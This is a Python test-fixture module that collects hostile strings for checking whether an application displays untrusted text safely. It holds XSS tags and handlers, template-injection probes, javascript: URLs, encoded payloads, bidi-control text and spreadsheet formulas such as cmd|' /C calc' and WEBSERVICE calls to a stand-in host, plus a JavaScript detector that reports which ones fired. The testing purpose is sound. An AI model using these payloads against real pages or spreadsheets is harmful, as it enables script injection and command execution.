# ruff: noqa: E501 (the texts stand as they are)
"""Texts that would run, load, redraw or reorder something wherever they were shown as anything but text.

Each that runs sets `window.pwned`; each that loads asks OUTSIDE; each that is evaluated shows 7×7 between two marks.
"""

from __future__ import annotations

RUN = "window.pwned=1"
OUTSIDE = "http://outside.invalid"
_EVALUATED = ("${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{7*7}", "{% print(7*7) %}", "[[7*7]]", "@(7*7)", "$((7*7))",
              "`${7*7}`", "${{7*7}}", "{{{7*7}}}", "{{constructor.constructor('window.pwned=1')()}}", "{!7*7!}",
              "${window.pwned=1}", "${alert(1)}", "`+(window.pwned=1)+`", "{{#with 'x'}}{{this}}{{/with}}",
              "{{value}}", "${value}", "${props.value}", "{{#if value}}7{{/if}}")
_EVENTS = ("img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror",
           "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
           "iframe onload", "marquee onstart", "object data=x onerror", "a href=# onclick", "style onload",
           "div style=animation-name:x onanimationstart", "svg><animate onbegin", "svg><set attributeName=x onbegin",
           "video><source onerror", "img src=x oNeRrOr", "img/src=x/onerror", "image src=x onerror")
_TAGS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src={OUTSIDE}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\x0c>{RUN}</script>", f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>", f"<math><mtext><script>{RUN}</script>", f"<noscript><p title=\"</noscript>"
    f"<img src=x onerror={RUN}>\">", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">", f"]]><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe src={OUTSIDE}></iframe>", f"<embed src={OUTSIDE}/x.svg>", f"<object data={OUTSIDE}/x></object>",
    f"<img src={OUTSIDE}/pixel.gif>", f"<link rel=stylesheet href={OUTSIDE}/x.css>", f"<base href={OUTSIDE}/>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>", f"<form action={OUTSIDE}><button>ok</button></form>",
    f"<style>@import '{OUTSIDE}/x.css';</style>", f"<style>*{{background:url({OUTSIDE}/y)}}</style>",
    f"<div style=\"background:url({OUTSIDE}/z)\">", "<style>*{display:none!important}</style>", "<plaintext>", "<xmp>",
    "<!--", "<pwn-tag>x</pwn-tag>", "<dialog open>x</dialog>", "</div></div></body></html>", "<h1 id=status>x</h1>",
    f"<template><script>{RUN}</script></template>", f"<table><tr onmouseover={RUN}><td>", f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' java\tscript:{RUN}'>x</a>", f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><use href={OUTSIDE}/x.svg#a></use></svg>")
_ATTRIBUTES = (
    f"\" onmouseover=\"{RUN}\" x=\"", f"' onmouseover='{RUN}' x='", f"\" autofocus onfocus=\"{RUN}", f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror={RUN}>", f"` onload=`{RUN}", f"x\" style=\"background:url({OUTSIDE}/q)", "\\\"x", "\\'x", "\\u003cscript>")
_SCRIPTS = (f"';{RUN};//", f"\";{RUN};//", f"\\';{RUN};//", f"*/{RUN};/*", f");{RUN};(", f"}}{RUN};{{", f"\u2028{RUN}\u2028",
            f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
            f"__proto__[pwned]=1;{RUN}", "constructor.prototype.pwned")
_MARKDOWN = (f"[x](javascript:{RUN})", f"![x]({OUTSIDE}/a.png)", f"[x]: javascript:{RUN}", f"<javascript:{RUN}>",
             f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"$\\htmlData{{a={RUN}}}{{x}}$", f"```html\n<img src=x onerror={RUN}>",
             "# heading", "**bold**", "| a | b |", "~~gone~~", f"[![x]({OUTSIDE}/b.png)](javascript:{RUN})")
_ENTITIES = (f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;img src=x onerror={RUN}&#62;", f"&#x3c;svg onload={RUN}&#x3e;", "&amp;lt;",
             "&nbsp;&shy;&zwj;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}", f"+ADw-script+AD4-{RUN}",
             f"＜script＞{RUN}＜/script＞", f"‹img src=x onerror={RUN}›")
_LETTERS = ("\u202etxt.exe", "\u2066\u2067x\u2069", "\u200b\u200c\u200d\ufeffx", "e" + "\u0301" * 60, "Z\u0351\u036b\u0343" * 8, "\U000e0041\U000e0042x",
            "👩\u200d👩\u200d👧\u200d👦🏽", "a\u0000b", "a\u0008\u001b[31mb", "\u0085x\u2029y", "ﷺ" * 4, "ｆｕｌｌ＜ｂ＞", "ا" * 12, "\ufffd\ufffe", "İıſK")
_FORMULAS = ("=1+1", "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "@SUM(1+1)", f'=HYPERLINK("{OUTSIDE}","x")', f'=WEBSERVICE("{OUTSIDE}")',
             "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=cmd|'/C calc'!A1", '"=1+1"', "%0A=1+1")
MARK = "m4rk"
HOSTILE: tuple[str, ...] = (
    *(f"{MARK}{one}{MARK}" for one in _EVALUATED), *(f"<{one}={RUN}>" for one in _EVENTS), *_TAGS, *_ATTRIBUTES, *_SCRIPTS, *_MARKDOWN,
    *_ENTITIES, *_LETTERS, *_FORMULAS)
ON_A_LINE = tuple(one for one in HOSTILE if not set(one) & set("\n\r\x00\x0b\x0c\x1b\x08\u0085\u2028\u2029"))
"""Those that fit a box of one line as they are."""

HARM = """([mark, outside]) => {
  // what went wrong in this page and in every frame of it; [] where nothing did
  const found = [];
  for (const at of [window, ...Array.from(window.frames)]) { try { if (at.pwned) found.push("ran"); } catch { found.push("a frame from elsewhere"); } }
  if ({}.pwned) found.push("prototype");
  if (document.body.innerText.includes(mark + "49" + mark)) found.push("evaluated");
  for (const one of document.querySelectorAll("pwn-tag, plaintext, xmp, marquee, dialog:not(.link-dialog), template, noscript p, body svg script, body embed, body object"))
    found.push("element " + one.localName);
  for (const one of document.querySelectorAll("*"))
    for (const { name, value } of one.attributes) {
      if (name.startsWith("on") && value.includes("pwned")) found.push("handler " + one.localName + " " + name);
      if (["href", "src", "action", "data", "xlink:href", "srcdoc"].includes(name) &&
          (/^\\s*(java|vb)\\s*script:/i.test(value) || value.startsWith(outside) || value.startsWith("data:text/html"))) found.push(name + " " + value);
      if (name === "style" && value.includes(outside)) found.push("style " + value);
    }
  for (const one of document.querySelectorAll("script, style")) {
    const own = one.textContent;
    if (one.localName === "script" ? own.startsWith("window.pwned") || own.startsWith("parent.window.pwned") : own.includes(outside) || own.includes("*{display:none"))
      found.push(one.localName + " " + own.slice(0, 60));
  }
  return found;
}"""
"""JavaScript for page.evaluate(HARM, [MARK, OUTSIDE])."""
